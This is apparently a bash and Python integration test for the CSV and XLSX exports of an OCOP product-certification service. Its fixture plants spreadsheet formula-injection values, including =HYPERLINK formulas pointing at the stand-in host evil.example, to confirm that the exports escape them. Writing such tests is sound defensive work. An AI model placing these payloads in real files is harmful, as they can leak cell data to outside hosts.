#!/usr/bin/env bash
# The officers' exports over a real socket, as a user opens them: products
# by stars (one row per product with a certificate in force, the latest
# when renewed; revoked and expired ones left out), dossiers by state (in
# the workflow's order, with the first submission's day in Vietnam's time),
# certificates expiring within ?within= days. CSV read back with Python's
# csv module (byte order mark, CRLF, the Vietnamese header, every row in
# order, quotes and line breaks escaped, an apostrophe before text a
# spreadsheet would run as a formula and before nothing else); XLSX read
# back with openpyxl (sheet names, header, each cell's type: numbers,
# dates as dates, text as strings, no formula anywhere; frozen header,
# filter, date format) and the summary's counts against an independent
# count in SQL. Refusals: a producer (403), an unknown export (404), a bad
# `within` or `state` (422), an unknown parameter (400), nothing changed
# and no temporary file left behind.
suite=cli-exports
. "$(dirname "$0")/../lib.sh"
PY=/usr/bin/python3

cd "$scratch"
db=$scratch/exports.db
admin=$("$OCOPTRACE" user add --role admin root --db "$db" | tail -n 1)
officer=$("$OCOPTRACE" user add --role officer canbo --db "$db" | tail -n 1)

# ---------- the fixture: written once, as SQL for the store and as JSON
# for the checks, which work out every expected row from it alone ----------

cat >"$scratch/fixture.py" <<'EOF'
import datetime, json, sys

today = datetime.date.today()
def day(n):
    return (today + datetime.timedelta(days=n)).isoformat()

producers = [  # name, kind, locality
    ("HTX Nông sản Hàm Thuận Bắc", "cooperative", "Hàm Thuận Bắc"),
    ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "sme", "@Phan Thiết"),
    ('Hộ kinh doanh "Bà Tư", Mũi Né', "household", "-Mũi Né"),
    ("+84 Cơ sở Tân Thành", "other", "La Gi, Bình Thuận"),
]
# product: name, group, producer (1-based), certificates
# certificate: number, stars, decided, valid_until (days from today), revoked
products = [
    ("Nước mắm Phan Thiết 40 độ đạm", "food", 1, [("OCOP-01", 5, "2024-03-15", 900, False)]),
    ('=HYPERLINK("http://evil.example/","Mật ong")', "food", 2, [("=1+2", 4, "2024-05-02", 10, False)]),
    ("+Thanh long ruột đỏ", "drink", 4, [("OCOP-03", 4, "2024-06-20", 45, False)]),
    ("-Rượu đế Bàu Trắng", "drink", 3, [("-OCOP-04", 3, "2024-07-01", 100, False)]),
    ("@Trà atiso", "herbal", 1, [("OCOP-05", 4, "2024-08-08", 200, False)]),
    ('Nón lá "Bài Thơ", Huế\nloại đặc biệt', "handicraft", 3, [("OCOP-06", 3, "2024-09-09", 60, False)]),
    ("Lan hồ điệp", "ornamental", 1, [("OCOP-07", 5, "2024-01-10", 300, True)]),
    ("Du lịch cộng đồng Bàu Trắng", "tourism", 4, [("OCOP-08", 3, "2022-01-10", -1, False)]),
    ("Bánh tráng Phú Long", "food", 1, [("OCOP-09-cu", 3, "2022-05-05", 20, False),
                                         ("OCOP-09-moi", 4, "2025-01-05", 1000, False)]),
    ("Muối ớt 1=1", "food", 2, [("OCOP-10", 3, "2023-02-02", 0, False)]),
    ("Bánh rế", "food", 4, []),
    ("\tCà phê Tánh Linh", "drink", 1, [("OCOP-12", 5, "2024-12-12", 500, False)]),
]
# dossier: product, state, scores (a, b, c, mean, stars) or None, updated_at,
# transitions (from, to, at)
dossiers = [
    (1, "scored", (38, 22, 30, "90.33", 5), "2025-04-10T02:00:00Z",
     [("draft", "submitted", "2025-03-01T20:30:00Z"), ("submitted", "returned", "2025-03-03T01:00:00Z"),
      ("returned", "submitted", "2025-03-05T01:00:00Z"), ("submitted", "checked", "2025-03-06T01:00:00Z"),
      ("checked", "scoring", "2025-03-07T01:00:00Z"), ("scoring", "scored", "2025-04-10T02:00:00Z")]),
    (2, "draft", None, "2025-05-01T03:00:00Z", []),
    (3, "submitted", None, "2025-05-02T16:59:00Z", [("draft", "submitted", "2025-05-02T16:59:00Z")]),
    (4, "recognised", (30, 18, 25, "72.67", 4), "2025-02-01T09:00:00Z",
     [("draft", "submitted", "2024-12-01T09:00:00Z"), ("submitted", "checked", "2024-12-02T09:00:00Z"),
      ("checked", "scoring", "2024-12-03T09:00:00Z"), ("scoring", "scored", "2025-01-03T09:00:00Z"),
      ("scored", "recognised", "2025-02-01T09:00:00Z")]),
    (6, "returned", None, "2025-05-04T17:30:00Z",
     [("draft", "submitted", "2025-05-03T17:00:00Z"), ("submitted", "returned", "2025-05-04T17:30:00Z")]),
    (5, "checked", None, "2025-05-06T00:00:00Z",
     [("draft", "submitted", "2025-05-05T00:00:00Z"), ("submitted", "checked", "2025-05-06T00:00:00Z")]),
    (9, "draft", None, "2025-05-07T00:00:00Z", []),
    (10, "not_recognised", (20, 10, 15, "45.00", 2), "2025-03-20T00:00:00Z",
     [("draft", "submitted", "2025-01-20T00:00:00Z"), ("submitted", "checked", "2025-01-21T00:00:00Z"),
      ("checked", "scoring", "2025-01-22T00:00:00Z"), ("scoring", "scored", "2025-02-22T00:00:00Z"),
      ("scored", "not_recognised", "2025-03-20T00:00:00Z")]),
]

def q(s):
    return "'" + s.replace("'", "''") + "'"

sql = []
for name, kind, locality in producers:
    sql.append("INSERT INTO producers (name, address, kind, locality) VALUES (%s, 'Bình Thuận', %s, %s);"
               % (q(name), q(kind), q(locality)))
for name, group, producer, certificates in products:
    sql.append("INSERT INTO products (producer_id, name, grp) VALUES (%d, %s, %s);" % (producer, q(name), q(group)))
    for number, stars, decided, until, revoked in certificates:
        sql.append("INSERT INTO evaluations (product_id, score_a, score_b, score_c, stars) VALUES "
                   "((SELECT max(id) FROM products), 30, 20, 25, %d);" % stars)
        sql.append("INSERT INTO certificates (number, evaluation_id, decision_number, decision_date, level, "
                   "valid_until, producer_snapshot, revoked_at) VALUES (%s, (SELECT max(id) FROM evaluations), "
                   "'12/QĐ-UBND', %s, 'province', %s, '{}', %s);"
                   % (q(number), q(decided), q(day(until)), "'2025-01-01T00:00:00Z'" if revoked else "NULL"))
for product, state, scores, updated, transitions in dossiers:
    a, b, c, mean, stars = scores if scores else ("NULL",) * 5
    sql.append("INSERT INTO dossiers (product_id, sheet, state, score_a, score_b, score_c, score_mean, stars, "
               "updated_at) VALUES (%d, 'fixture-food', %s, %s, %s, %s, %s, %s, %s);"
               % (product, q(state), a, b, c, q(mean) if scores else "NULL", stars, q(updated)))
    for before, after, at in transitions:
        sql.append("INSERT INTO dossier_transitions (dossier_id, from_state, to_state, at) VALUES "
                   "((SELECT max(id) FROM dossiers), %s, %s, %s);" % (q(before), q(after), q(at)))
open(sys.argv[1], "w", encoding="utf-8").write("\n".join(sql) + "\n")
json.dump({"today": today.isoformat(), "producers": producers, "products": products, "dossiers": dossiers},
          open(sys.argv[2], "w", encoding="utf-8"), ensure_ascii=False)
EOF
"$PY" "$scratch/fixture.py" "$scratch/fixture.sql" "$scratch/fixture.json"
sqlite3 "$db" <"$scratch/fixture.sql"
expect_equal "setup: products numbered from 1" "$(sqlite3 "$db" "SELECT min(id), max(id), count(*) FROM products")" "1|12|12"
expect_equal "setup: dossiers numbered from 1" "$(sqlite3 "$db" "SELECT min(id), max(id), count(*) FROM dossiers")" "1|8|8"
producer=$("$OCOPTRACE" user add --role producer --producer 1 htxmot --db "$db" | tail -n 1)

mkdir -p "$scratch/tmp"
saved_tmpdir=${TMPDIR-}
export TMPDIR=$scratch/tmp
start_daemon "$db"
if [ -n "$saved_tmpdir" ]; then export TMPDIR=$saved_tmpdir; else unset TMPDIR; fi

# download TOKEN PATH OUT: the status; the body in OUT, the headers in OUT.headers.
download() {
    curl -s -o "$3" -D "$3.headers" -w '%{http_code}' -H "Authorization: Bearer $1" "$base$2"
}
# header FILE NAME: a header's value from a saved response.
header() { grep -i "^$2:" "$1.headers" | head -n 1 | cut -d' ' -f2- | tr -d '\r'; }
# report OUTPUT: counts the checker's "PASS name" and "FAIL name: why" lines.
report() {
    local line
    while IFS= read -r line; do
        case $line in
        PASS*) pass ;;
        FAIL*) fail "${line#FAIL }" ;;
        *) fail "checker: $line" ;;
        esac
    done <<<"$1"
}

before=$(sqlite3 "$db" .dump)
today=$(date +%F)

# ---------- the checker: expected rows from the fixture alone ----------

cat >"$scratch/check.py" <<'EOF'
import csv, datetime, io, json, sys

fx = json.load(open(sys.argv[1], encoding="utf-8"))
mode, path = sys.argv[2], sys.argv[3]
args = sys.argv[4:]
today = datetime.date.fromisoformat(fx["today"])
GROUPS = ["food", "drink", "herbal", "handicraft", "ornamental", "tourism"]
GROUP_TITLES = ["Thực phẩm", "Đồ uống", "Thảo dược", "Thủ công mỹ nghệ", "Sinh vật cảnh",
                "Dịch vụ du lịch cộng đồng, du lịch sinh thái và điểm du lịch"]
KINDS = {"cooperative": "Hợp tác xã", "sme": "Doanh nghiệp nhỏ và vừa", "household": "Hộ kinh doanh",
         "other": "Khác"}
STATES = ["draft", "submitted", "checked", "returned", "scoring", "scored", "recognised", "not_recognised"]
STATE_TITLES = ["Nháp", "Đã nộp", "Đã kiểm tra", "Trả lại", "Đang chấm điểm", "Đã chấm điểm",
                "Được công nhận", "Không được công nhận"]
HEADERS = {
    "products-by-stars": ["Mã sản phẩm", "Tên sản phẩm", "Nhóm", "Tên nhóm", "Chủ thể", "Loại hình chủ thể",
                          "Địa bàn", "Hạng sao", "Số giấy chứng nhận", "Ngày quyết định", "Có giá trị đến"],
    "summary": ["Hạng sao"] + GROUP_TITLES + ["Tổng cộng"],
    "dossiers-by-state": ["Mã hồ sơ", "Sản phẩm", "Nhóm", "Tên nhóm", "Chủ thể", "Trạng thái", "Tên trạng thái",
                          "Phiếu chấm điểm", "Ngày nộp", "Thay đổi lần cuối", "Tổng điểm", "Điểm trung bình",
                          "Hạng sao"],
    "certificates-expiring": ["Số giấy chứng nhận", "Sản phẩm", "Chủ thể", "Hạng sao", "Có giá trị đến",
                              "Số ngày còn lại"],
}
SHEETS = {"products-by-stars": ["Sản phẩm theo hạng sao", "Tổng hợp"],
          "dossiers-by-state": ["Hồ sơ theo trạng thái"],
          "certificates-expiring": ["Giấy chứng nhận sắp hết hạn"]}
D = datetime.date

def vn_day(iso):  # the day a UTC moment fell on in Vietnam
    t = datetime.datetime.strptime(iso, "%Y-%m-%dT%H:%M:%SZ") + datetime.timedelta(hours=7)
    return t.date()

def in_force(cert):
    return not cert[4] and cert[3] >= 0

def products_rows():
    rows = []
    for pid, (name, group, producer, certs) in enumerate(fx["products"], 1):
        live = [c for c in certs if in_force(c)]
        if not live:
            continue
        number, stars, decided, until, _ = max(live, key=lambda c: c[3])
        pname, kind, locality = fx["producers"][producer - 1]
        rows.append([pid, name, group, GROUP_TITLES[GROUPS.index(group)], pname, KINDS[kind], locality,
                     stars, number, D.fromisoformat(decided), today + datetime.timedelta(days=until)])
    rows.sort(key=lambda r: (-r[7], GROUPS.index(r[2]), r[1].encode()))
    return rows

def summary_rows(rows):
    out = []
    for stars in (5, 4, 3):
        counts = [sum(1 for r in rows if r[7] == stars and r[2] == g) for g in GROUPS]
        out.append([stars] + counts + [sum(counts)])
    totals = [sum(r[1 + i] for r in out) for i in range(len(GROUPS) + 1)]
    return out + [["Tổng cộng"] + totals]

def dossiers_rows(state=None):
    rows = []
    for did, (product, st, scores, updated, transitions) in enumerate(fx["dossiers"], 1):
        if state and st != state:
            continue
        pname, group, producer, _ = fx["products"][product - 1]
        submitted = [t[2] for t in transitions if t[1] == "submitted"]
        rows.append([did, pname, group, GROUP_TITLES[GROUPS.index(group)], fx["producers"][producer - 1][0],
                     st, STATE_TITLES[STATES.index(st)], "fixture-food",
                     vn_day(min(submitted)) if submitted else None, vn_day(updated),
                     sum(scores[:3]) if scores else None, float(scores[3]) if scores else None,
                     scores[4] if scores else None])
    rows.sort(key=lambda r: (STATES.index(r[5]), r[0]))
    return rows

def expiring_rows(within):
    rows = []
    for name, group, producer, certs in fx["products"]:
        for number, stars, decided, until, revoked in certs:
            if in_force((number, stars, decided, until, revoked)) and until <= within:
                rows.append([number, name, fx["producers"][producer - 1][0], stars,
                             today + datetime.timedelta(days=until), until])
    rows.sort(key=lambda r: (r[4], r[0]))
    return rows

def expected(name, opts):
    if name == "products-by-stars":
        rows = products_rows()
        return summary_rows(rows) if opts.get("summary") else rows
    if name == "dossiers-by-state":
        return dossiers_rows(opts.get("state"))
    return expiring_rows(int(opts.get("within", 90)))

def as_csv(value):  # what the CSV must hold for a cell, by the rules alone
    if value is None:
        return ""
    if isinstance(value, D):
        return value.isoformat()
    if isinstance(value, float):
        return "%.2f" % value
    if isinstance(value, int):
        return str(value)
    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value

def check(name, ok, why=""):
    print(("PASS " + name) if ok else ("FAIL %s: %s" % (name, why)))

def check_csv(name, opts, label):
    data = open(path, "rb").read()
    check(label + ": starts with the UTF-8 byte order mark", data.startswith(b"\xef\xbb\xbf"), repr(data[:8]))
    text = data[3:].decode("utf-8")
    records = list(csv.reader(io.StringIO(text, newline="")))
    header = HEADERS["summary" if opts.get("summary") else name]
    check(label + ": the Vietnamese header", records[:1] == [header], repr(records[:1]))
    want = [[as_csv(v) for v in row] for row in expected(name, opts)]
    got = records[1:]
    check(label + ": %d rows" % len(want), len(got) == len(want), "got %d" % len(got))
    for i, (g, w) in enumerate(zip(got, want)):
        check(label + ": row %d (%s)" % (i + 1, w[0]), g == w, "got %r, want %r" % (g, w))
    breaks = text.count("\n") - sum(v.count("\n") for row in want for v in row)
    check(label + ": each record ends in CRLF", text.endswith("\r\n") and text.count("\r\n") == len(want) + 1
          and breaks == len(want) + 1, "%d CRLF, %d line ends outside fields" % (text.count("\r\n"), breaks))

def check_xlsx(name, label):
    import openpyxl
    book = openpyxl.load_workbook(path)
    check(label + ": sheet names", book.sheetnames == SHEETS[name], repr(book.sheetnames))
    formulas = [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    check(label + ": no formula cell anywhere", not formulas, repr(formulas))
    tables = [(book.worksheets[0], HEADERS[name], expected(name, {}))]
    if name == "products-by-stars":
        tables.append((book.worksheets[1], HEADERS["summary"], expected(name, {"summary": 1})))
    for ws, header, rows in tables:
        lab = "%s %s" % (label, ws.title)
        got_header = [c.value for c in ws[1]]
        check(lab + ": header", got_header == header, repr(got_header))
        check(lab + ": header bold", all(c.font.b for c in ws[1]), "")
        check(lab + ": header frozen", ws.freeze_panes == "A2", repr(ws.freeze_panes))
        last = openpyxl.utils.get_column_letter(len(header))
        check(lab + ": filter over the table", ws.auto_filter.ref == "A1:%s%d" % (last, len(rows) + 1),
              repr(ws.auto_filter.ref))
        check(lab + ": %d rows" % len(rows), ws.max_row == len(rows) + 1, "max_row %d" % ws.max_row)
        bad = []
        for r, row in enumerate(rows, 2):
            for c, want in enumerate(row, 1):
                cell = ws.cell(row=r, column=c)
                if want is None:
                    ok = cell.value is None
                elif isinstance(want, D):
                    ok = cell.is_date and cell.value.date() == want and cell.number_format == "dd/mm/yyyy"
                elif isinstance(want, (int, float)):
                    ok = cell.data_type == "n" and not cell.is_date and cell.value == want
                else:
                    ok = cell.data_type == "s" and cell.value == want
                if not ok:
                    bad.append("%s: %r (%s), want %r" % (cell.coordinate, cell.value, cell.data_type, want))
        check(lab + ": every cell typed and equal", not bad, "; ".join(bad[:4]))
        widths = [ws.column_dimensions[openpyxl.utils.get_column_letter(c)].width for c in range(1, len(header) + 1)]
        check(lab + ": column widths set", all(w and w >= 10 for w in widths), repr(widths))

def check_counts(label):  # the summary sheet against "STARS|GROUP|COUNT" lines from SQL
    import openpyxl
    ws = openpyxl.load_workbook(path)["Tổng hợp"]
    counted = {}
    for line in open(args[0], encoding="utf-8").read().split():
        stars, group, count = line.split("|")
        counted[(int(stars), group)] = int(count)
    bad = []
    for r, stars in ((2, 5), (3, 4), (4, 3)):
        for g, group in enumerate(GROUPS):
            got = ws.cell(row=r, column=2 + g).value
            if got != counted.get((stars, group), 0):
                bad.append("%d stars %s: %r, SQL %d" % (stars, group, got, counted.get((stars, group), 0)))
    check(label + ": summary counts equal SQL's", not bad and sum(counted.values()) > 0, "; ".join(bad))

opts = dict(a.split("=", 1) for a in args if "=" in a)
if mode == "csv":
    check_csv(args[0], opts, "CSV " + args[0] + (" " + " ".join(args[1:]) if args[1:] else ""))
elif mode == "xlsx":
    check_xlsx(args[0], "XLSX " + args[0])
elif mode == "counts":
    check_counts("XLSX products-by-stars")
EOF
check() { report "$("$PY" "$scratch/check.py" "$scratch/fixture.json" "$@" 2>&1)"; }

# ---------- CSV ----------

for export in "products-by-stars" "products-by-stars?summary=1" "dossiers-by-state" \
    "dossiers-by-state?state=draft" "dossiers-by-state?state=scored" "certificates-expiring" \
    "certificates-expiring?within=0" "certificates-expiring?within=120"; do
    name=${export%%\?*}
    query=
    [ "$export" != "$name" ] && query=${export#*\?}
    out=$scratch/$name-${query//[=&]/-}.csv
    code=$(download "$officer" "/api/v1/exports/$name.csv${query:+?$query}" "$out")
    expect_equal "CSV $export: status" "$code" 200
    expect_equal "CSV $export: content type" "$(header "$out" Content-Type)" "text/csv; charset=utf-8"
    suffix=
    [ "$query" = summary=1 ] && suffix=-summary
    expect_equal "CSV $export: file name" "$(header "$out" Content-Disposition)" \
        "attachment; filename=\"$name$suffix-$today.csv\""
    check csv "$out" "$name" ${query:+"$query"}
done
# The admin may download them too.
expect_equal "CSV as the admin" "$(download "$admin" /api/v1/exports/dossiers-by-state.csv "$scratch/admin.csv")" 200
cmp -s "$scratch/admin.csv" "$scratch/dossiers-by-state-.csv" && pass || fail "the admin's CSV is the officer's"

# The dangerous cells, by hand as well: a spreadsheet sees text, not a formula.
grep -qF "\"'=HYPERLINK(\"\"http://evil.example/\"\",\"\"Mật ong\"\")\"" "$scratch/products-by-stars-.csv" && pass ||
    fail "the =HYPERLINK( name is quoted, its quotes doubled, an apostrophe first"
grep -qF ",Muối ớt 1=1," "$scratch/products-by-stars-.csv" && pass || fail "an '=' inside text gets no apostrophe"
grep -q "^'-OCOP-04," "$scratch/certificates-expiring-within-120.csv" && pass ||
    fail "a certificate number beginning with '-' gets an apostrophe"

# ---------- XLSX ----------

for name in products-by-stars dossiers-by-state certificates-expiring; do
    out=$scratch/$name.xlsx
    code=$(download "$officer" "/api/v1/exports/$name.xlsx" "$out")
    expect_equal "XLSX $name: status" "$code" 200
    expect_equal "XLSX $name: content type" "$(header "$out" Content-Type)" \
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    expect_equal "XLSX $name: file name" "$(header "$out" Content-Disposition)" \
        "attachment; filename=\"$name-$today.xlsx\""
    check xlsx "$out" "$name"
done
# The summary against a count of its own: each product's certificate in
# force that ends last, by its stars and group.
sqlite3 "$db" "SELECT e.stars, p.grp, count(*) FROM certificates c
    JOIN evaluations e ON e.id = c.evaluation_id JOIN products p ON p.id = e.product_id
    WHERE c.revoked_at IS NULL AND c.valid_until >= '$today' AND c.valid_until = (
        SELECT max(c2.valid_until) FROM certificates c2 JOIN evaluations e2 ON e2.id = c2.evaluation_id
        WHERE e2.product_id = p.id AND c2.revoked_at IS NULL)
    GROUP BY e.stars, p.grp" >"$scratch/counts.txt"
check counts "$scratch/products-by-stars.xlsx" "$scratch/counts.txt"
left=$(find "$scratch/tmp" -mindepth 1 | wc -l)
expect_equal "no temporary file left behind" "$left" 0

# ---------- refusals ----------

# refused NAME TOKEN PATH STATUS FIELD
refused() {
    local got
    got=$(call "$2" GET "$3")
    expect_equal "$1: status" "${got%% *}" "$4"
    if [ -n "$5" ]; then
        expect_equal "$1: names the field" "$(jget 'd["error"]["field"]' <<<"${got#* }" 2>/dev/null)" "$5"
    fi
}
for ext in csv xlsx; do
    refused "a producer, $ext" "$producer" "/api/v1/exports/products-by-stars.$ext" 403 ""
    refused "no token, $ext" "" "/api/v1/exports/dossiers-by-state.$ext" 401 ""
done
refused "an unknown export" "$officer" /api/v1/exports/products.csv 404 name
refused "an unknown format" "$officer" /api/v1/exports/products-by-stars.pdf 404 name
refused "no format" "$officer" /api/v1/exports/products-by-stars 404 name
for within in -1 3651 abc 1.5 "" 99999; do
    refused "within='$within'" "$officer" "/api/v1/exports/certificates-expiring.csv?within=$within" 422 within
done
refused "within on XLSX" "$officer" "/api/v1/exports/certificates-expiring.xlsx?within=x" 422 within
code=$(download "$officer" "/api/v1/exports/certificates-expiring.csv?within=3650" "$scratch/far.csv")
expect_equal "within=3650 is allowed" "$code" 200
refused "an unknown state" "$officer" "/api/v1/exports/dossiers-by-state.csv?state=approved" 422 state
refused "summary=2" "$officer" "/api/v1/exports/products-by-stars.csv?summary=2" 422 summary
refused "an unknown parameter" "$officer" "/api/v1/exports/dossiers-by-state.csv?sort=id" 400 sort
refused "summary on XLSX (always there)" "$officer" "/api/v1/exports/products-by-stars.xlsx?summary=1" 400 summary
expect_equal "a POST is not allowed" "$(status "$officer" POST /api/v1/exports/products-by-stars.csv '{}')" 405
after=$(sqlite3 "$db" .dump)
[ "$after" = "$before" ] && pass || fail "the exports changed the database"

finish
